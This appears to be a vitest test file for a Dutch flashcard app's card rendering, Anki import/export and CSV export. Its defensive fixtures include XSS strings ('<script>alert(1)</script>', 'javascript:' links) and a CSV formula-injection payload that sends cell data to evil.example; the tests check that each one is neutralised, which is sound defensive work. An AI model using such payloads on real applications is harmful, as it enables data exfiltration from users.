import { describe, expect, it } from 'vitest';
import { writeApkg } from '../../src/card-import/apkg.ts';
import { toCsv } from '../../src/card-import/csv.ts';
import { ankiHtmlToMarkdown } from '../../src/card-import/html.ts';
import { parseImport } from '../../src/card-import/parse.ts';
import { contentDisposition, fileNameOf } from '../../src/card-import/service.ts';
import { DEFAULT_IMPORT_LIMITS } from '../../src/card-import/types.ts';
import { renderOwnCardHtml } from '../../src/own-cards/service.ts';
import { judgeApkg } from './anki-judge.ts';
import { PNG, buildAnkiPackage, sampleDeck } from './packages.ts';

const enc = (s: string | Buffer) => (typeof s === 'string' ? new TextEncoder().encode(s) : new Uint8Array(s));
const text = (s: string | Buffer) => parseImport({ source: 'text', bytes: enc(s), limits: DEFAULT_IMPORT_LIMITS });
const apkg = (bytes: Uint8Array) => parseImport({ source: 'apkg', bytes, limits: DEFAULT_IMPORT_LIMITS });

describe('her own card as it shows', () => {
  it('shows text between < and > as she typed it, keeping sub, sup and a line break', () => {
    // before: "a<b en c>d" came out as a**d** (a <b> tag) and "if x<y and y>z:" as "if xz:"
    expect(renderOwnCardHtml('a<b en c>d')).toBe('<p>a&lt;b en c&gt;d</p>\n');
    expect(renderOwnCardHtml('if x<y and y>z:')).toBe('<p>if x&lt;y and y&gt;z:</p>\n');
    expect(renderOwnCardHtml('<div onclick="x()">blok</div>')).toBe('<p>&lt;div onclick="x()"&gt;blok&lt;/div&gt;</p>\n');
    expect(renderOwnCardHtml('<script>alert(1)</script>')).not.toContain('<script');
    expect(renderOwnCardHtml('H<sub>2</sub>O en x<sup>2</sup>')).toBe('<p>H<sub>2</sub>O en x<sup>2</sup></p>\n');
    expect(renderOwnCardHtml('`a<b>`')).toBe('<p><code>a&lt;b&gt;</code></p>\n');
  });

  it('keeps a line break she typed, lists and a link with its target', () => {
    expect(renderOwnCardHtml('regel 1\nregel 2')).toBe('<p>regel 1<br />regel 2</p>\n');
    expect(renderOwnCardHtml('- een\n- twee')).toBe('<ul>\n<li>een</li>\n<li>twee</li>\n</ul>\n');
    expect(renderOwnCardHtml('[Blok](https://blok.example/uitleg?a=1)')).toBe('<p><a href="https://blok.example/uitleg?a=1" rel="noopener noreferrer" target="_blank">Blok</a></p>\n');
    expect(renderOwnCardHtml('[x](javascript:alert(1))')).not.toContain('javascript');
  });
});

describe('Anki HTML to her Markdown and back', () => {
  it('keeps a link target, nested and ordered lists and a line break', () => {
    expect(ankiHtmlToMarkdown('zie <a href="https://blok.example/a b?x=(1)">de uitleg</a>').markdown).toBe('zie [de uitleg](https://blok.example/a%20b?x=%281%29)');
    expect(ankiHtmlToMarkdown('<a href="javascript:alert(1)">klik</a>').markdown).toBe('klik');
    expect(ankiHtmlToMarkdown('<ol><li>een</li><li>twee<ul><li>diep</li></ul></li></ol>').markdown).toBe('1. een\n2. twee\n   - diep');
    expect(ankiHtmlToMarkdown('<ul><li><p>los</p></li></ul>').markdown).toBe('- los');
    expect(ankiHtmlToMarkdown('voor<br>achter').markdown).toBe('voor\nachter');
  });

  it("keeps bold that ends after a line break or spans Anki's lines as bold, not as asterisks", () => {
    // before: "**x\n**y" and "**a\n\nb**", which show their asterisks
    expect(ankiHtmlToMarkdown('<b>x<br></b>y').markdown).toBe('**x**\ny');
    expect(ankiHtmlToMarkdown('<b>een<div>twee</div></b>').markdown).toBe('**een**\n**twee**');
    expect(ankiHtmlToMarkdown('<i>een<p>twee</p><p>drie</p></i>').markdown).toBe('*een*\n*twee*\n\n*drie*');
    expect(ankiHtmlToMarkdown('<b> vet </b>en').markdown).toBe('**vet** en');
    expect(renderOwnCardHtml(ankiHtmlToMarkdown('<b>een<div>twee</div></b>').markdown)).toBe('<p><strong>een</strong><br /><strong>twee</strong></p>\n');
  });

  it('shows a card the same after it went to Anki and came back', () => {
    const cards = [
      '**vet** en *schuin*',
      '- een\n- twee\n  - diep',
      '1. een\n2. twee',
      'regel 1\nregel 2\n\nalinea 2',
      'zie [de uitleg](https://blok.example/uitleg)',
      'a<b en c>d',
      'if x<y and y>z:',
      'H<sub>2</sub>O',
      '5 \\* 3 = 15 en 2 # 3',
    ];
    for (const markdown of cards) {
      const html = renderOwnCardHtml(markdown);
      const back = ankiHtmlToMarkdown(html).markdown;
      expect(renderOwnCardHtml(back), `${JSON.stringify(markdown)} came back as ${JSON.stringify(back)}`).toBe(html);
    }
  });
});

describe('the CSV export', () => {
  const rows: Array<[string, string, string[]]> = [
    ['=HYPERLINK("https://evil.example/?d="&A3,"Klik")', '+31 6 1234', ['a']],
    ['-5 graden', '@SUM(A1:A2)', []],
    ['\tinspringen', '\rterug', []],
    ["'=al een apostrof", '# geen kop', []],
    ['gewoon', 'twee\nregels, met "quotes"', ['oefen::h1', 'b']],
  ];

  it("neutralises every cell a spreadsheet would read as a formula with a leading ' (OWASP)", () => {
    const csv = toCsv(rows).toString('utf8');
    const lines = csv.split('\r\n');
    expect(lines[4]).toBe(`"'=HYPERLINK(""https://evil.example/?d=""&A3,""Klik"")",'+31 6 1234,a`);
    expect(lines[5]).toBe("'-5 graden,'@SUM(A1:A2),");
    expect(lines[6]).toBe(`'\tinspringen,"'\rterug",`);
    expect(lines[7]).toBe(`''=al een apostrof,"# geen kop",`);
    // no cell starts with a formula character
    for (const line of lines.slice(4)) expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
  });

  it("starts with Anki's file headers instead of a header row, and Blok reads it back as the same cards", async () => {
    const csv = toCsv(rows);
    const body = csv.toString('utf8');
    expect(body.startsWith('\uFEFF#separator:Comma\r\n#html:false\r\n#columns:Front,Back,Tags\r\n#tags column:3\r\n')).toBe(true);
    const r = await text(csv);
    expect(r.problems).toEqual([]);
    expect(r.header).toBe(true);
    expect(r.cards.map((c) => [c.front, c.back, c.tags])).toEqual(rows.map(([f, b, t]) => [f.trim(), b.trim(), t]));
    expect(r.cards[0]!.source).toBe('regel 5');
  });
});

describe('a text import', () => {
  it("reads Anki's own text export: its headers, HTML, a tags column and <br> as a line break", async () => {
    const r = await text('#separator:tab\n#html:true\n#tags column:3\nvoor<br>regel 2\t<b>vet</b> en <a href="https://blok.example/x">link</a>\tt1 t2\nx &lt; y\t<ul><li>een</li></ul>\t\n');
    expect(r.separator).toBe('tab');
    expect(r.cards.map((c) => [c.front, c.back, c.tags, c.source])).toEqual([
      ['voor\nregel 2', '**vet** en [link](https://blok.example/x)', ['t1', 't2'], 'regel 4'],
      ['x \\< y', '- een', [], 'regel 5'],
    ]);
    expect(renderOwnCardHtml(r.cards[0]!.front)).toBe('<p>voor<br />regel 2</p>\n');
  });

  it('keeps a line break inside a quoted field, reads Anki HTML without headers, and leaves a lone < as text', async () => {
    const quoted = await text('voor;"regel 1\nregel 2"\n');
    expect(quoted.cards[0]!.back).toBe('regel 1\nregel 2');
    expect(renderOwnCardHtml(quoted.cards[0]!.back)).toBe('<p>regel 1<br />regel 2</p>\n');
    const html = await text('Mitose\tceldeling<br><i>twee</i> kernen\n');
    expect(html.cards[0]!.back).toBe('celdeling\n*twee* kernen');
    const plain = await text('a<b en c>d\tif x<y and y>z:\n');
    expect(plain.cards[0]).toMatchObject({ front: 'a<b en c>d', back: 'if x<y and y>z:' });
    // a first card that looks like a header line but names none of Anki's keys stays a card
    const hash = await text('#Hoofdstuk: cellen\tde kleinste eenheid\n#2\ttwee\n');
    expect(hash.cards.map((c) => c.front)).toEqual(['#Hoofdstuk: cellen', '#2']);
  });
});

describe('the .apkg export, judged as Anki reads it', () => {
  it("writes cloze and reversed notes as Anki's own Cloze and Basic (and reversed card)", async () => {
    const bytes = await writeApkg(
      'Biologie – H1',
      [
        { kind: 'basic', fields: ['<p><strong>Mitochondrion</strong></p>', '<p>Energie</p><div><img src="cel.png"></div>'], tags: ['cel'], ords: [0], key: 'a' },
        { kind: 'reversed', fields: ['<p>Ribosoom</p>', '<p>Maakt eiwitten</p>'], tags: [], ords: [0, 1], key: 'b' },
        { kind: 'cloze', fields: ['<p>De {{c1::kern}} bevat het {{c2::DNA::erfelijk materiaal}}.</p>', '<p><em>Eukaryoten</em></p>'], tags: [], ords: [0, 1], key: 'c' },
      ],
      [{ name: 'cel.png', bytes: PNG }],
    );
    const judged = await judgeApkg(bytes);
    expect(judged.noteTypes.map((n) => [n.name, n.kind, n.originalStockKind, n.fields, n.templates.length])).toEqual([
      ['Basic', 'standard', 1, ['Front', 'Back'], 1],
      ['Basic (and reversed card)', 'standard', 2, ['Front', 'Back'], 2],
      ['Cloze', 'cloze', 5, ['Text', 'Back Extra'], 1],
    ]);
    expect(judged.notes.map((n) => [n.noteType, n.cards, n.deck])).toEqual([
      ['Basic', [0], 'Biologie – H1'],
      ['Basic (and reversed card)', [0, 1], 'Biologie – H1'],
      ['Cloze', [0, 1], 'Biologie – H1'],
    ]);
    expect(judged.notes[2]!.fields).toEqual({ Text: '<p>De {{c1::kern}} bevat het {{c2::DNA::erfelijk materiaal}}.</p>', 'Back Extra': '<p><em>Eukaryoten</em></p>' });
    expect(Object.keys(judged.media)).toEqual(['cel.png']);

    // Blok reads its own package back as the same five cards, and knows which note each came from
    const r = await apkg(bytes);
    expect(r.cards.map((c) => [c.front, c.back])).toEqual([
      ['**Mitochondrion**', 'Energie'],
      ['Ribosoom', 'Maakt eiwitten'],
      ['Maakt eiwitten', 'Ribosoom'],
      ['De \\[…\\] bevat het DNA.', 'De **kern** bevat het DNA.\n\n*Eukaryoten*'],
      ['De kern bevat het \\[erfelijk materiaal\\].', 'De kern bevat het **DNA**.\n\n*Eukaryoten*'],
    ]);
    expect(r.cards.map((c) => c.note && [c.note.kind, c.note.ord])).toEqual([null, ['reversed', 0], ['reversed', 1], ['cloze', 0], ['cloze', 1]]);
    expect(r.cards[3]!.note).toMatchObject({ text: 'De {{c1::kern}} bevat het {{c2::DNA::erfelijk materiaal}}.', extra: '*Eukaryoten*' });
    expect(r.cards[3]!.note!.id).toBe(r.cards[4]!.note!.id);
  });

  it('remembers which cards of an Anki package came from one reversed or cloze note', async () => {
    const r = await apkg(await buildAnkiPackage(sampleDeck(3)));
    expect(r.cards.map((c) => c.note && [c.note.kind, c.note.ord])).toEqual([null, ['reversed', 0], ['reversed', 1], ['cloze', 0], ['cloze', 1], null]);
  });
});

describe('the file name of an export', () => {
  it('keeps the title as she wrote it, with an ASCII fallback (RFC 6266)', () => {
    expect(fileNameOf('Biologie – H1: cellen/weefsels?', 'csv')).toBe('Biologie – H1 cellen weefsels.csv');
    expect(fileNameOf('  ...  ', 'apkg')).toBe('kaarten.apkg');
    expect(contentDisposition("Biologie – H1 (café) 'x'.csv")).toBe(
      `attachment; filename="Biologie - H1 (cafe) 'x'.csv"; filename*=UTF-8''Biologie%20%E2%80%93%20H1%20%28caf%C3%A9%29%20%27x%27.csv`,
    );
  });
});
